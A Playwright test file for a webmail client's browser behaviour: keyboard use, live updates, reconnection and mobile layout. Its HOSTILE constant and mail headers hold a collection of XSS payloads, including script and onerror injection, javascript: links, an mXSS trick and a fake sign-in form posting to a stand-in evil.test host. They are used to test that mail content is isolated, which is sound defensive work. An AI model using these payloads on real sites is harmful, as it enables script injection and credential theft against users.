"""The webmail in a real browser: live updates, keyboard use, isolation of mail content."""

import base64
import copy
from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Browser, Page, Route, async_playwright, expect

from mail.ids import new_id
from schemas.events.mailbox_commands import ChangeMessages
from schemas.mailbox import SEEN
from stores.memory import MemoryLiveEvents
from tests.support.browser import ARGUMENTS, CHROMIUM
from tests.support.edge_world import PASSWORDS, PLAIN, Mailboxes, World

pytestmark = pytest.mark.browser

HOSTILE = """
<p>Good day</p>
<script>window.top.pwned('script')</script>
<script src="/web/app.js"></script>
<script src="http://evil.test/x.js"></script>
<img src=x onerror="parent.pwned('onerror')">
<img src="http://evil.test/pixel.png"><img srcset="http://evil.test/2.png 2x">
<svg onload="parent.pwned('svg')"><script>parent.pwned('svg script')</script></svg>
<a href="javascript:parent.pwned('link')" id="bad">press me</a>
<iframe src="javascript:parent.pwned('frame')"></iframe>
<iframe srcdoc="<script>parent.parent.pwned('srcdoc')</script>"></iframe>
<form action="http://evil.test/steal"><input name="p"><button>Sign in</button></form>
<meta http-equiv="refresh" content="0;url=http://evil.test/away">
<base href="http://evil.test/"><link rel="stylesheet" href="http://evil.test/a.css">
<style>body{background:url(http://evil.test/b.png)} @import url(http://evil.test/c.css);</style>
<p style="background:url(http://evil.test/d.png)">styled</p>
<object data="http://evil.test/o"></object><embed src="http://evil.test/e">
<math><mtext><table><mglyph><style><img src=x onerror="parent.pwned('mxss')"></style></table></math>
<details open ontoggle="parent.pwned('toggle')"><summary>x</summary></details>
"""
MAIL = (
    b"From: =?utf-8?q?Mallory_=3Cscript=3Epwned('name')=3C/script=3E?= <m@evil.test>\r\n"
    b"Subject: <img src=x onerror=pwned('subject')>\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
)


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    assert CHROMIUM, "install chromium"
    async with async_playwright() as playwright:
        launched = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield launched
        await launched.close()


class Watched:
    """A browser page, and a record of what must not happen in it."""

    def __init__(self, page: Page, world: World) -> None:
        self.page = page
        self._own = world.url
        self.bad: list[str] = []
        page.on("dialog", lambda dialog: self.bad.append(f"dialog {dialog.message}"))
        page.on("pageerror", lambda error: self.bad.append(f"error {error}"))
        page.on("popup", lambda popup: self.bad.append(f"popup {popup.url}"))
        page.on("request", lambda request: self._asked(request.url))

    def _asked(self, url: str) -> None:
        if not url.startswith((self._own, "data:", "about:", self._own.replace("http", "ws"))):
            self.bad.append(f"request {url}")


async def opened(browser: Browser, world: World, **context: object) -> Watched:
    """Log in as alice and wait for the push connection."""
    page = await (await browser.new_context(**context)).new_page()
    watched = Watched(page, world)
    await page.expose_function("pwned", lambda what: watched.bad.append(f"ran {what}"))
    await page.goto(world.url)
    await page.get_by_label("Address").fill("alice@postriver.test")
    await page.get_by_label("Password").fill(PASSWORDS["alice"])
    await page.keyboard.press("Enter")
    await expect(page.get_by_text("Live", exact=True)).to_be_visible()
    return watched


async def test_mail_appears_is_read_by_keyboard_and_is_gone_after_signing_out(browser, world):
    await world.deliver(PLAIN % b"Before", at_ms=1000)
    watched = await opened(browser, world)
    page, rows = watched.page, watched.page.locator("#list button")
    await expect(rows).to_have_count(1)
    await expect(page.locator("#unread")).to_have_text("1 unread")
    row = await world.deliver(PLAIN % "반가워요".encode())
    await expect(rows).to_have_count(2)
    await expect(rows.first).to_contain_text("반가워요")
    await expect(page.locator("#announce")).to_have_text("New message from Bob: 반가워요")
    await expect(page).to_have_title("(2) Inbox · Postriver")
    await rows.last.focus()
    await page.keyboard.press("ArrowUp")
    await page.keyboard.press("Enter")
    await expect(page.locator("article h2")).to_be_focused()
    await expect(page.locator("article pre")).to_have_text("Hello")
    await expect(page.locator("#unread")).to_have_text("1 unread")
    kept = await world.store.message("alice", row.message_id)
    assert kept is not None
    assert kept.keywords == ("$seen",)
    await page.keyboard.press("Escape")
    await expect(rows.first).to_be_focused()
    await page.get_by_role("button", name="Sign out").click()
    await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    await expect(page.get_by_text("반가워요")).to_have_count(0)
    kept_cookies = [one["name"] for one in await page.context.cookies()]
    assert kept_cookies == ["postriver_0_device"], "it signs nobody in"
    assert watched.bad == []


async def test_a_message_is_deleted_moved_and_brought_back_by_keyboard(browser, world) -> None:
    await world.deliver(PLAIN % b"otter")
    watched = await opened(browser, world)
    page = watched.page
    await expect(page.locator("#room")).to_contain_text("used")
    for label, told in (("Delete", "Moved to Trash."), ("Archive", "Moved to Archive.")):
        await page.locator("#list button").first.press("Enter")
        await expect(page.locator("#message h2")).to_be_focused()
        if label == "Delete":
            await page.get_by_role("button", name="Delete").press("Enter")
        else:
            await page.get_by_label("Move to folder").select_option(label)
        await expect(page.locator("#done-text")).to_have_text(told)
        await expect(page.locator("#list li")).to_have_count(0)
        await expect(page.locator("#undo")).to_be_focused()
        await page.keyboard.press("Enter")
        await expect(page.locator("#list li")).to_have_count(1)
        await expect(page.locator("#done")).to_be_hidden()
    assert watched.bad == []


async def test_the_page_says_when_it_is_cut_off_and_catches_up(browser, world) -> None:
    watched = await opened(browser, world)
    page = watched.page
    kept, world.feed._sinks = world.feed._sinks, {}
    missed = await world.deliver(PLAIN % b"missed")
    for sinks in kept.values():
        assert len(sinks) == 1
    world.context.push_connections.end_all()
    await expect(page.get_by_text("Not connected.")).to_be_visible()
    await expect(page.locator("#list button")).to_have_count(1)
    await expect(page.get_by_text("Live", exact=True)).to_be_visible()
    await expect(page.locator("#list")).to_contain_text("missed")
    await expect(page.get_by_text("Not connected.")).to_be_hidden()
    assert missed.head.subject == "missed"
    assert watched.bad == []


async def test_the_page_shows_what_a_restore_has_put_back(browser, world) -> None:
    """The row has the seq at which the page showed it with other values."""
    row = await world.deliver(PLAIN % b"kept")
    backup = copy.deepcopy(world.store)
    watched, client = await opened(browser, world), await world.signed()
    page = watched.page
    await client.patch(f"/v1/messages/{row.message_id}", json={"flagged": True})
    await expect(page.locator("#list .subject")).to_have_text("★ kept")
    await world.deliver(PLAIN % b"lost")
    await expect(page.locator("#list button")).to_have_count(2)
    again = ChangeMessages(
        command_id=new_id(), user_id="alice", domain_id="d", at_ms=5,
        message_ids=(row.message_id,), add_keywords=(SEEN,),
    )  # fmt: skip
    await Mailboxes(backup, MemoryLiveEvents(), offset=9).carry_out(again)
    vars(world.store).update(vars(backup))
    world.context.push_connections.end_all()
    await expect(page.locator("#list button")).to_have_count(1)
    await expect(page.locator("#list .subject")).to_have_text("kept")
    await expect(page.locator("#unread")).to_be_hidden()
    assert watched.bad == []


async def test_a_hostile_mail_runs_nothing_and_loads_nothing(browser, world: World) -> None:
    await world.deliver(MAIL + base64.encodebytes(HOSTILE.encode()))
    watched = await opened(browser, world)
    page = watched.page
    await page.locator("#list button").click()
    frame = page.frame_locator("iframe.body")
    await expect(frame.get_by_text("Good day")).to_be_visible()
    await expect(page.locator("article h2")).to_have_text("<img src=x onerror=pwned('subject')>")
    await expect(frame.locator("body")).to_have_css("margin-left", "16px")
    await page.wait_for_timeout(500)
    assert watched.bad == []


async def test_without_the_sanitiser_frame_and_policy_would_still_hold(browser, world) -> None:
    row = await world.deliver(MAIL + base64.encodebytes(b"<p>Hello</p>"))

    async def unsanitised(route: Route) -> None:
        answer = await route.fetch()
        await route.fulfill(response=answer, json={**await answer.json(), "html": HOSTILE})

    watched = await opened(browser, world)
    page = watched.page
    await page.route(f"**/v1/messages/{row.message_id}", unsanitised)
    await page.locator("#list button").click()
    await page.wait_for_timeout(500)
    ran = [what for what in watched.bad if what.startswith(("ran", "dialog"))]
    assert ran == []


async def test_on_a_phone_one_thing_is_shown_at_a_time(browser, world: World) -> None:
    await world.deliver(PLAIN % b"small")
    page = (await opened(browser, world, viewport={"width": 390, "height": 800})).page
    await page.locator("#list button").click()
    await expect(page.locator("article h2")).to_be_visible()
    await expect(page.locator("#list")).to_be_hidden()
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    await page.go_back()
    await expect(page.locator("#list button")).to_be_visible()
    await expect(page.locator("article")).to_be_hidden()
